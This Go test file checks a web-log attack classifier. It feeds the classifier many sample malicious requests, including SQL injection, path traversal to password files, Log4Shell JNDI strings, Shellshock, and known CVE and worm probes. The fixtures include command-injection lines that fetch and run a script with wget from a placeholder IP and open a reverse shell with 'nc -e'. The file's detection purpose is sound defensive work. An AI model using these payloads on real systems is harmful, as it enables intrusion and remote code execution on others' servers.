package weblog

import (
	"slices"
	"strings"
	"testing"
)

// req builds a request the way the parser would from a request line.
func req(method, target string, status int) Request {
	var r Request
	line := method + " " + target + " HTTP/1.1"
	if method == "" {
		line = target
	}
	splitRequest(line, &r)
	r.Status = status
	return r
}

func rulesOf(hits []Hit) []string {
	var ids []string
	for _, h := range hits {
		ids = append(ids, h.Rule)
	}
	return ids
}

func TestClassify(t *testing.T) {
	tests := []struct {
		name string
		r    Request
		want []string // rules that must be among the hits; nil: no hit at all
	}{
		// SQL injection.
		{"union select", req("GET", "/item.php?id=1%20UNION%20ALL%20SELECT%201,2,3--", 200), []string{"web.sqli.union-select"}},
		{"union comment select", req("GET", "/item.php?id=1/*!50000union*/+/*!50000select*/+1", 404), []string{"web.sqli.union-select"}},
		{"union double encoded", req("GET", "/item.php?id=1%2520union%2520select%2520null", 404), []string{"web.sqli.union-select"}},
		{"tautology", req("GET", "/login.php?user=admin%27%20or%20%271%27=%271", 404), []string{"web.sqli.tautology"}},
		{"tautology numeric", req("GET", "/a.php?id=1+AND+1234=1234", 404), []string{"web.sqli.tautology"}},
		{"or 1 comment", req("GET", "/a.php?u=x'+or+1--+-", 404), []string{"web.sqli.tautology"}},
		{"sleep", req("GET", "/a.php?id=1+and+sleep(5)", 404), []string{"web.sqli.function"}},
		{"benchmark", req("GET", "/a.php?id=BENCHMARK(5000000,MD5(1))", 404), []string{"web.sqli.function"}},
		{"information_schema", req("GET", "/a.php?id=-1+union+select+table_name+from+information_schema.tables", 404), []string{"web.sqli.union-select", "web.sqli.function"}},
		{"order by", req("GET", "/a.php?id=1%20ORDER%20BY%2010--%20-", 404), []string{"web.sqli.quote-comment"}},
		{"quote comment", req("GET", "/a.php?user=admin'--", 404), []string{"web.sqli.quote-comment"}},

		// Traversal and inclusion.
		{"dotdot", req("GET", "/download.php?file=../../../../etc/passwd", 404), []string{"web.traversal.dotdot", "web.traversal.sensitive-file"}},
		{"encoded dotdot", req("GET", "/a/..%2f..%2f..%2fetc/shadow", 400), []string{"web.traversal.dotdot", "web.traversal.sensitive-file"}},
		{"%2e%2e", req("GET", "/%2e%2e/%2e%2e/windows/win.ini", 400), []string{"web.traversal.dotdot", "web.traversal.sensitive-file"}},
		{"overlong utf-8", req("GET", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", 404), []string{"web.traversal.dotdot", "web.worm.nimda"}},
		{"double percent", req("GET", "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir", 400), []string{"web.traversal.dotdot", "web.worm.nimda"}},
		{"%u encoding", req("GET", "/a.asp?f=%u002e%u002e%u2215boot.ini", 404), []string{"web.traversal.dotdot", "web.traversal.sensitive-file"}},
		{"php filter", req("GET", "/index.php?page=php://filter/convert.base64-encode/resource=index", 200), []string{"web.lfi.php-wrapper"}},
		{"php input", req("POST", "/index.php?file=php%3A%2F%2Finput", 200), []string{"web.lfi.php-wrapper"}},
		{"data uri", req("GET", "/index.php?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2b", 200), []string{"web.lfi.php-wrapper"}},
		{"proc environ", req("GET", "/index.php?page=../../../../proc/self/environ", 200), []string{"web.lfi.proc"}},
		{"null byte", req("GET", "/index.php?page=../../etc/passwd%00", 200), []string{"web.lfi.null-byte"}},
		{"rfi", req("GET", "/index.php?page=http://evil.example/shell.txt?", 200), []string{"web.rfi.remote-url"}},
		{"rfi ftp", req("GET", "/mantis/x.php?g_jpgraph_path=ftp%3A%2F%2Fattacker%2Fl.txt%3F", 404), []string{"web.rfi.remote-url"}},
		{"wp-config via param", req("GET", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", 200), []string{"web.cve.wordpress-plugin", "web.lfi.config-file", "web.traversal.dotdot"}},

		// Command injection.
		{";id", req("GET", "/ping.php?host=127.0.0.1;id", 200), []string{"web.cmdi.shell-meta"}},
		{"|uname", req("GET", "/ping.php?host=x%7Cuname%20-a", 200), []string{"web.cmdi.shell-meta"}},
		{"$( )", req("GET", "/cgi-bin/a.cgi?x=$(whoami)", 200), []string{"web.cmdi.shell-meta"}},
		{"backticks", req("GET", "/cgi-bin/a.cgi?x=%60id%60", 200), []string{"web.cmdi.shell-meta"}},
		{"newline", req("GET", "/cgi-bin/a.cgi?x=1%0aid", 200), []string{"web.cmdi.shell-meta"}},
		{"wget", req("GET", "/shell?cd+/tmp;wget+http://198.51.100.1/x.sh;sh+x.sh", 404), []string{"web.cmdi.shell-command", "web.cve.iot"}},
		{"nc -e", req("GET", "/x.php?c=nc+-e+/bin/sh+198.51.100.1+4444", 404), []string{"web.cmdi.shell-command"}},
		{"ifs", req("GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget${IFS}http://x/Mozi.m", 404), []string{"web.cmdi.shell-meta", "web.cve.iot"}},

		// Log4Shell, in any field.
		{"jndi in path", req("GET", "/$%7Bjndi:ldap://x.example/a%7D", 404), []string{"web.log4shell.jndi"}},
		{"jndi in UA", Request{Method: "GET", Target: "/", Path: "/", Status: 200, UserAgent: "${jndi:ldap://198.51.100.2:1389/Basic/Command/Base64/d2dldA==}"}, []string{"web.log4shell.jndi"}},
		{"jndi lower obfuscation", Request{Method: "GET", Target: "/", Path: "/", Status: 200, Referer: "${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://x/a}"}, []string{"web.log4shell.jndi"}},
		{"jndi default obfuscation", Request{Method: "GET", Target: "/", Path: "/", Status: 200, UserAgent: "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}"}, []string{"web.log4shell.jndi"}},
		{"jndi env obfuscation", Request{Method: "GET", Target: "/", Path: "/", Status: 200, UserAgent: "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}"}, []string{"web.log4shell.jndi"}},
		{"jndi in user", Request{Method: "GET", Target: "/", Path: "/", Status: 401, User: "${jndi:dns://x.example/u}"}, []string{"web.log4shell.jndi"}},

		// Shellshock.
		{"shellshock UA", Request{Method: "GET", Target: "/cgi-bin/status", Path: "/cgi-bin/status", Status: 200, UserAgent: "() { :; }; /bin/bash -c 'wget http://x/a'"}, []string{"web.shellshock"}},
		{"shellshock referer", Request{Method: "GET", Target: "/", Path: "/", Status: 200, Referer: "() { _; } >_[$($())] { echo; id; }"}, []string{"web.shellshock"}},

		// CVE probes.
		{"apache 2.4.49", req("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400), []string{"web.cve.apache-traversal"}},
		{"apache 2.4.50", req("GET", "/icons/.%%32%65/.%%32%65/etc/passwd", 400), []string{"web.cve.apache-traversal"}},
		{"phpunit", req("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404), []string{"web.cve.phpunit"}},
		{"thinkphp", req("GET", "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", 404), []string{"web.cve.thinkphp", "web.php.code"}},
		{"struts", req("GET", "/struts2-showcase/%25%7B(%23dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)%7D/actionChain1.action", 404), []string{"web.cve.struts"}},
		{"hnap", req("POST", "/HNAP1/", 404), []string{"web.cve.iot"}},
		{"gpon", req("POST", "/GponForm/diag_Form?images/", 404), []string{"web.cve.iot"}},
		{"boaform", req("POST", "/boaform/admin/formLogin", 404), []string{"web.cve.iot"}},
		{"dotenv", req("GET", "/.env", 404), []string{"web.probe.secret-file"}},
		{"git config", req("GET", "/.git/config", 200), []string{"web.probe.secret-file"}},
		{"actuator", req("GET", "/actuator/env", 404), []string{"web.cve.spring"}},
		{"solr", req("GET", "/solr/admin/cores?action=STATUS&wt=json", 404), []string{"web.cve.solr"}},
		{"code red", req("GET", "/default.ida?NNNNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801%u9090", 404), []string{"web.worm.codered"}},
		{"root.exe", req("GET", "/scripts/root.exe?/c+dir", 404), []string{"web.worm.nimda"}},
		{"msadc", req("GET", "/MSADC/root.exe?/c+dir", 404), []string{"web.worm.nimda", "web.cve.iis"}},
		{"vti_bin", req("GET", "/_vti_bin/..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", 404), []string{"web.cve.iis", "web.worm.nimda"}},
		{"webdav search overflow", req("SEARCH", "/"+strings.Repeat("\x90\x02\xb1", 400), 414), []string{"web.cve.webdav-overflow"}},
		{"admin share", req("PROPFIND", "/admin%24", 404), []string{"web.worm.admin-share"}},
		{"drupalgeddon", req("POST", "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", 200), []string{"web.cve.drupalgeddon"}},
		{"php-cgi", req("POST", "/cgi-bin/php-cgi?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input", 200), []string{"web.php.cgi-args"}},
		{"spring4shell", req("POST", "/app?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 200), []string{"web.cve.spring"}},

		// Web shells and uploads.
		{"c99", req("GET", "/images/c99.php", 404), []string{"web.webshell.known-name"}},
		{"wso 200", req("POST", "/wp-content/uploads/2026/11/wso.php", 200), []string{"web.webshell.known-name", "web.webshell.upload-dir-post"}},
		{"cmd param", req("GET", "/x.php?cmd=cat+/etc/passwd", 200), []string{"web.webshell.command-param"}},
		{"cmd.jsp", req("GET", "/cmd.jsp?cmd=id", 200), []string{"web.webshell.known-name", "web.webshell.command-param"}},
		{"put script", req("PUT", "/scripts/abhisek.asp", 405), []string{"web.upload.put-script"}},
		{"put file", req("PUT", "/test.txt", 201), []string{"web.upload.put"}},
		{"uploadify", req("POST", "/js/uploadify/uploadify.php", 200), []string{"web.upload.handler"}},

		// Scanners, proxies, admin probes, logins.
		{"nikto", Request{Method: "GET", Target: "/", Path: "/", Status: 200, UserAgent: "Mozilla/4.75 (Nikto/1.32 )"}, []string{"web.scanner.user-agent"}},
		{"sqlmap", Request{Method: "GET", Target: "/", Path: "/", Status: 200, UserAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)"}, []string{"web.scanner.user-agent"}},
		{"w00tw00t", req("GET", "/w00tw00t.at.ISC.SANS.DFind:)", 400), []string{"web.scanner.probe"}},
		{"proxy absolute", req("GET", "http://www.yahoo.com/", 200), []string{"web.proxy.absolute-uri"}},
		{"connect", req("CONNECT", "mail.example.com:25", 405), []string{"web.proxy.connect"}},
		{"socks", req("", "\x05\x01\x00", 501), []string{"web.proxy.socks"}},
		{"phpmyadmin", req("GET", "/phpMyAdmin-4.8.1/index.php", 404), []string{"web.admin.db-admin"}},
		{"wp-login POST", req("POST", "/wp-login.php", 200), []string{"web.login.wp-login"}},
		{"xmlrpc POST", req("POST", "/xmlrpc.php", 200), []string{"web.login.xmlrpc"}},
		{"wp-login probe", req("GET", "/wp-login.php", 404), []string{"web.admin.login-page"}},
		{"xss", req("GET", "/search.php?q=%3Cscript%3Ealert(1)%3C/script%3E", 200), []string{"web.xss"}},
		{"xss event", req("GET", "/p?x=%22%20onerror=alert(1)", 200), []string{"web.xss"}},
		{"php code in UA", Request{Method: "GET", Target: "/", Path: "/", Status: 200, UserAgent: "<?php system($_GET['c']); ?>"}, []string{"web.php.code"}},

		// Benign requests: no hit at all.
		{"home", req("GET", "/", 200), nil},
		{"static", req("GET", "/presentations/logstash-monitorama-2013/images/kibana-search.png", 200), nil},
		{"search words", req("GET", "/search?q=black+or+white+and+red", 200), nil},
		{"order by words", req("GET", "/list?sort=order+by+name", 200), nil},
		{"autoindex", req("GET", "/scripts/?C=N;O=D", 200), nil},
		{"jsessionid", req("GET", "/shop;jsessionid=ABC123?id=5&cat=2", 200), nil},
		{"id param", req("GET", "/a.php?x=1&id=2&ls=3", 200), nil},
		{"redirect param", req("GET", "/login?next=https://example.org/account&return=http://example.org/", 200), nil},
		{"assert() in text", req("GET", "/blog/c's+assert()+feature", 200), nil},
		{"phpmyadmin doc", req("GET", "/docs/phpmyadmin.html", 200), nil},
		{"wp-login visit", req("GET", "/wp-login.php", 200), nil},
		{"js function", req("GET", "/a.asp?x=function%20x(){v=1}", 404), nil},
		{"plus in path", req("GET", "/c++/notes.html", 200), nil},
		{"browser UA", Request{Method: "GET", Target: "/", Path: "/", Status: 200, UserAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", Referer: "https://www.google.com/url?q=http%3A%2F%2Fexample.org%2F&sa=D"}, nil},
		{"elastic referer", Request{Method: "GET", Target: "/", Path: "/", Status: 200, Referer: "http://www.google.ro/url?sa=t&rct=j&q=&esrc=s&source=web&cd=2&url=http%3A%2F%2Fwww.semicomplete.com%2F"}, nil},
		{"request timeout", Request{Status: 408}, nil},
		{"TLS handshake", req("", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 400), nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hits := Classify(tt.r)
			got := rulesOf(hits)
			if tt.want == nil {
				if len(hits) > 0 {
					t.Errorf("benign request flagged: %v (%s)", got, hits[0].Evidence)
				}
				return
			}
			for _, w := range tt.want {
				if !slices.Contains(got, w) {
					t.Errorf("missing %s, got %v", w, got)
				}
			}
			for i, h := range hits {
				if i > 0 && SeverityRank(h.Severity) > SeverityRank(hits[i-1].Severity) {
					t.Errorf("hits not strongest first: %v", hits)
				}
				if !strings.Contains(h.Evidence, "status ") || h.Category == "" || len(h.Attack) == 0 {
					t.Errorf("incomplete hit %+v", h)
				}
			}
		})
	}
}

func TestClassifySeverityRaise(t *testing.T) {
	sev := func(r Request, rule string) string {
		for _, h := range Classify(r) {
			if h.Rule == rule {
				return h.Severity
			}
		}
		return ""
	}
	tests := []struct {
		name string
		r    Request
		rule string
		want string
	}{
		{"sqli failed", req("GET", "/a.php?id=1+union+select+1", 404), "web.sqli.union-select", "medium"},
		{"sqli answered", req("GET", "/a.php?id=1+union+select+1", 200), "web.sqli.union-select", "high"},
		{"sqli redirected", req("GET", "/a.php?id=1+union+select+1", 302), "web.sqli.union-select", "medium"},
		{"log4shell answered", Request{Method: "GET", Target: "/", Status: 200, UserAgent: "${jndi:ldap://x/a}"}, "web.log4shell.jndi", "critical"},
		{"scanner not raised", Request{Method: "GET", Target: "/", Status: 200, UserAgent: "nikto"}, "web.scanner.user-agent", "info"},
		{"login not raised", req("POST", "/wp-login.php", 200), "web.login.wp-login", "low"},
		{"web shell answered", req("GET", "/uploads/c99.php", 200), "web.webshell.known-name", "high"},
	}
	for _, tt := range tests {
		if got := sev(tt.r, tt.rule); got != tt.want {
			t.Errorf("%s: %s severity %q, want %q", tt.name, tt.rule, got, tt.want)
		}
	}
}

func TestClassifyEvidence(t *testing.T) {
	hits := Classify(req("GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", 404))
	if len(hits) == 0 {
		t.Fatal("no hit")
	}
	for _, h := range hits {
		if !strings.Contains(h.Evidence, "status 404") || !strings.Contains(h.Evidence, "GET /scripts/..%255c..") {
			t.Errorf("evidence %q", h.Evidence)
		}
	}
	// Binary stays printable.
	hits = Classify(req("SEARCH", "/"+strings.Repeat("\x90\x02", 600), 414))
	for _, h := range hits {
		for _, c := range []byte(h.Evidence) {
			if c < 0x20 || c == 0x7f {
				t.Fatalf("control byte in evidence %q", h.Evidence)
			}
		}
	}
}

// TestRuleCatalog: ids are unique and well formed, every rule has techniques and a title, and
// every category and severity is one of the documented ones.
func TestRuleCatalog(t *testing.T) {
	cats := []string{CatSQLi, CatTraversal, CatCmdInjection, CatLFI, CatRFI, CatLog4Shell, CatShellshock, CatCVEProbe,
		CatWebshell, CatScanner, CatUpload, CatXSS, CatAdminProbe, CatProxyAbuse, CatPHPInjection, CatLogin}
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r.ID] || !strings.HasPrefix(r.ID, "web.") || r.ID != strings.ToLower(r.ID) {
			t.Errorf("bad or duplicate id %q", r.ID)
		}
		seen[r.ID] = true
		if !slices.Contains(cats, r.Category) || SeverityRank(r.Severity) < 0 || len(r.Attack) == 0 || r.Title == "" {
			t.Errorf("incomplete rule %+v", r)
		}
		for _, a := range r.Attack {
			if !strings.HasPrefix(a, "T1") {
				t.Errorf("%s: technique %q", r.ID, a)
			}
		}
	}
	// Every literal's rule is in the catalog.
	for _, p := range pats {
		if !seen[p.rule.id] {
			t.Errorf("literal %q of unknown rule", p.lit)
		}
	}
}

func TestNormalize(t *testing.T) {
	tests := []struct {
		in   string
		plus bool
		want string
	}{
		{"/Plain/Path", false, "/plain/path"},
		{"%2e%2e%2f", false, "../"},
		{"%252e%252e%252f", false, "../"},
		{"%25252e", false, "."},
		{"%2525252e", false, "%2e"}, // three rounds, no more
		{"..%c0%af..%c1%1c..%c1%9c", false, "../../../"},
		{"..%e0%80%af", false, "../"},
		{"%u002e%u002E%u2215x", false, "../x"},
		{"%uff0fetc", false, "/etc"},
		{"a+b", true, "a b"},
		{"a+b", false, "a+b"},
		{"%2b", true, "+"},
		{"%zz%4", false, "%zz%4"},
		{`a\b`, false, "a/b"},
		{"%%35%63", false, "/"},
	}
	var a, b []byte
	for _, tt := range tests {
		var out []byte
		out, a, b = normalize(nil, tt.in, tt.plus, a, b)
		if string(out) != tt.want {
			t.Errorf("normalize(%q) = %q, want %q", tt.in, out, tt.want)
		}
	}
}

func TestClassifyNoAllocBenign(t *testing.T) {
	r := Request{Method: "GET", Target: "/presentations/logstash-monitorama-2013/images/kibana-search.png?x=1", Path: "/presentations/logstash-monitorama-2013/images/kibana-search.png",
		Query: "x=1", Status: 200, UserAgent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_9_1) AppleWebKit/537.36", Referer: "http://semicomplete.com/presentations/logstash-monitorama-2013/"}
	var c Classifier
	c.Classify(&r)
	if n := testing.AllocsPerRun(100, func() { c.Classify(&r) }); n != 0 {
		t.Errorf("%v allocations per benign request", n)
	}
}
